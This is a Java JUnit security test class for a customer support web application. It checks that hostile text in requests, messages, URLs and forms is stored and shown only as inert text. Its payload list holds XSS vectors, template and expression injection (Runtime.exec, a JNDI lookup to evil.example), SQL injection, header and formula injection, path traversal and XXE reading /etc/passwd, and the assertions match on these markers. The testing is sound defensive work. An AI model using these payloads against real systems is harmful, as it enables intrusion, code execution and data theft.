package org.supportprocess.attack;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.supportprocess.api.Api;
import org.supportprocess.request.number.RequestNumber;
import org.supportprocess.signin.WebBrowser;

/** Scripts, templates, expressions and statements in every text that a customer may write: kept as they are, and only text. */
class WritingHostileText extends Attack {

    /** 7 times 191: found on a page where somebody has reckoned. */
    private static final String RECKONED = "139622501";

    private static final String BETWEEN = " \n";
    private static final int SUMMARY = 200;

    private static final List<String> TEXTS = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "</script><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "</title><svg onload=alert(1)>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)' x='",
            "\" autofocus onfocus=\"alert(1)",
            "<a href=\"javascript:alert(1)\">here</a>",
            "[here](javascript:alert(1))",
            "![x](https://evil.example/pixel.png)",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<style>*{background:url(//evil.example)}</style>",
            "<base href=//evil.example>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<form action=//evil.example><input name=password>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<!--><script>alert(1)</script>-->",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "<div hx-get=\"/logout\" hx-trigger=\"load\">",
            "{{73*1912637}} {{constructor.constructor('alert(1)')()}}",
            "[[${73*1912637}]] [(${73*1912637})]",
            "__${73*1912637}__::.x",
            "~{::content} ~{layout :: page(1,2)}",
            "*{73*1912637} #{login.title} @{/logout}",
            "${73*1912637} ${T(java.lang.Runtime).getRuntime().exec('id')}",
            "#{73*1912637} #{T(java.lang.System).exit(1)}",
            "${jndi:ldap://evil.example/x} ${env:PATH}",
            "= 73*1912637",
            "\", 73*1912637, \"",
            "if true then 73*1912637 else 0",
            "function(x) external {java: {class: \"java.lang.Math\", \"method signature\": \"max(int, int)\"}}",
            "<#assign x=73*1912637>${x} <%= 73*1912637 %> #set($x=73*1912637)$x",
            "'; drop table support_request; --",
            "' or '1'='1",
            "\\'; select pg_sleep(9); --",
            "1 union select password_ from act_id_user",
            "%00%0d%0aSet-Cookie: x=1",
            "a\r\nBcc: all@evil.example\r\n\r\nbody",
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "../../../../etc/passwd",
            "{\"@class\":\"org.springframework.context.support.ClassPathXmlApplicationContext\"}",
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "\u200bzero\u200dwidth\ufeff",
            "👩‍💻 障害 Störung العربية",
            "%s%n%x {0} {} ${}");

    @Autowired
    ObjectMapper json;

    /** As many at a time as a summary holds: an escaping that lets one of them through lets it through beside others. */
    static List<String> texts() {
        List<String> together = new ArrayList<>();
        for (String text : TEXTS) {
            int last = together.size() - 1;
            String grown = last < 0 ? text : together.get(last) + BETWEEN + text;
            if (last < 0 || grown.length() > SUMMARY) {
                together.add(text);
            } else {
                together.set(last, grown);
            }
        }
        return together;
    }

    @ParameterizedTest
    @MethodSource("texts")
    void isKeptAndShownAsTextWhereARequestIsOpened(String text) throws JsonProcessingException {
        ObjectNode body = (ObjectNode) json.readTree(Api.OPEN.formatted("SUB-E3"));
        body.put("summary", oneLine(text)).put("description", text).put("topic", oneLine(text.split(BETWEEN)[0]));

        Api.Answer opened = api.post(VICTIM, "/api/requests", json.writeValueAsString(body));

        assertThat(opened.status()).as(opened.body()).isEqualTo(201);
        assertThat(opened.<String>read("$.summary")).isEqualTo(oneLine(text));
        assertThat(opened.<String>read("$.description")).isEqualTo(text);
        assertInert(opened.read("$.number"), text);
    }

    @ParameterizedTest
    @MethodSource("texts")
    void isKeptAndShownAsTextThroughoutAConversation(String text) throws JsonProcessingException {
        String number = api.open(VICTIM, "SUB-E3");
        String request = "/api/requests/" + number;
        String said = json.writeValueAsString(text);

        Api.Answer heard = api.post(VICTIM, request + "/messages", "{\"text\": %s}".formatted(said));
        assertNoFailure(heard);
        desk.answer("erik", new RequestNumber(number), text);
        desk.solve("erik", new RequestNumber(number), text);
        assertNoFailure(api.post(VICTIM, request + "/reject", "{\"reason\": %s}".formatted(said)));
        desk.solve("erik", new RequestNumber(number), "Try again");
        assertThat(api.post(VICTIM, request + "/confirm", null).status()).isEqualTo(200);
        assertNoFailure(api.put(VICTIM, request + "/survey", "{\"score\": 1, \"comment\": %s}".formatted(said)));
        assertNoFailure(api.post(VICTIM, request + "/reopen", "{\"reason\": %s}".formatted(said)));

        List<String> texts = api.get(VICTIM, request + "/messages").read("$[*].text");
        assertThat(texts).contains(text);
        assertInert(number, text);
    }

    /** By the address, which would be shown at once. */
    @ParameterizedTest
    @MethodSource("texts")
    void isNotGivenBackByAPageThatIsAskedWithIt(String text) {
        String encoded = URLEncoder.encode(text, StandardCharsets.UTF_8);
        WebBrowser browser = tabOf(VICTIM);
        for (String page : List.of(
                "/requests?q=" + encoded,
                "/requests?state=" + encoded,
                "/requests?page=" + encoded,
                "/requests?lang=" + encoded,
                "/requests?" + encoded + "=1",
                "/requests/new?service=" + encoded,
                "/help?q=" + encoded,
                "/no-such-page?" + encoded)) {
            var shown = browser.open(page);
            assertNoFailure(shown);
            assertNoMarkup(shown.body(), text);
        }
        WebBrowser stranger = WebBrowser.at("http://localhost:" + port);
        for (String parameter : List.of("error", "refused", "logout", "lang", "continue", "username")) {
            var shown = stranger.open("/login?" + parameter + "=" + encoded);
            assertThat(shown.statusCode()).isEqualTo(200);
            assertNoMarkup(shown.body(), text);
        }
        for (String question : List.of("q", "state", "page", "size", "sort")) {
            Api.Answer answer = api.get(VICTIM, "/api/requests?" + question + "=" + encoded);
            assertNoFailure(answer);
            assertNoFailure(api.get(VICTIM, "/api/requests?" + encoded + "=" + question));
            assertThat(answer.contentType()).startsWith("application/");
        }
    }

    /** What was typed is shown again beside the mistake. */
    @ParameterizedTest
    @MethodSource("texts")
    void isShownAsTextInAFormThatWasRefused(String text) {
        String number = api.open(VICTIM, "SUB-E3");
        WebBrowser browser = tabOf(VICTIM);
        browser.open("/requests/new");
        Map<String, String> fields = new HashMap<>(Map.of("_csrf", browser.csrf()));
        Stream.of(
                        "summary",
                        "description",
                        "topic",
                        "subscription",
                        "supportType",
                        "service",
                        "issueType",
                        "condition",
                        "usersAffected",
                        "workaround",
                        "businessImpact",
                        "contactMethod",
                        "contactPhone",
                        "contactLanguage",
                        "requestedSeverity",
                        "organisation",
                        "follows",
                        "owner",
                        "key",
                        "helpful",
                        "score",
                        "severity",
                        "name",
                        "scope",
                        "url",
                        "user",
                        "email")
                .forEach(field -> fields.put(field, text));
        for (String form : List.of(
                "/requests/new",
                "/requests/new?show=1",
                "/requests/new/live",
                "/requests/" + number + "/survey",
                "/requests/" + number + "/severity",
                "/help/no-such-article/feedback",
                "/organisation/tokens",
                "/organisation/webhooks",
                "/organisation/administrators",
                "/organisation/partners")) {
            var shown = browser.submit(form, fields);
            assertNoFailure(shown);
            assertNoMarkup(shown.body(), text);
        }
        browser.submit("/requests/new/discard", Map.of("_csrf", browser.csrf()));
    }

    private void assertInert(String number, String text) {
        WebBrowser customer = tabOf(VICTIM);
        for (String page : List.of("/requests", "/requests/" + number, "/requests/" + number + "/receipt")) {
            var shown = customer.open(page);
            assertNoFailure(shown);
            assertNoMarkup(shown.body(), text);
        }
        database.queryForList("select id from outgoing_mail where request_number = ?", Long.class, number)
                .forEach(mail -> {
                    for (String page : List.of("/demo/mail/" + mail, "/demo/mail/" + mail + "/html")) {
                        var shown = customer.open(page);
                        assertThat(shown.statusCode()).isEqualTo(200);
                        assertNoMarkup(shown.body().replace("<style>", ""), text);
                    }
                });
        for (String part : List.of("", "/timeline", "/messages", "/receipt")) {
            Api.Answer answer = api.get("erik", "/api/requests/" + number + part);
            assertThat(answer.status()).isEqualTo(200);
            assertThat(answer.contentType()).startsWith("application/json");
            assertThat(answer.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        }
    }

    private static void assertNoMarkup(String page, String text) {
        for (String written : text.split(BETWEEN)) {
            if (written.contains("<")) {
                assertThat(page).doesNotContain(written).doesNotContain(written.toLowerCase(Locale.ROOT));
            }
        }
        assertThat(page)
                .doesNotContain(
                        "<script>",
                        "<script src=//",
                        "onerror=alert(1)>",
                        "<svg onload",
                        "<iframe",
                        "<math",
                        "<base",
                        "<style>")
                .doesNotContain(" onmouseover='alert", "<form action=//", "<div hx-get")
                .doesNotContain(" onfocus=\"alert", "href=\"javascript:", "src=\"https://evil", "root:x:0")
                .doesNotContain(RECKONED);
    }

    private static String oneLine(String text) {
        return text.replaceAll("[\\r\\n]+", " ");
    }
}
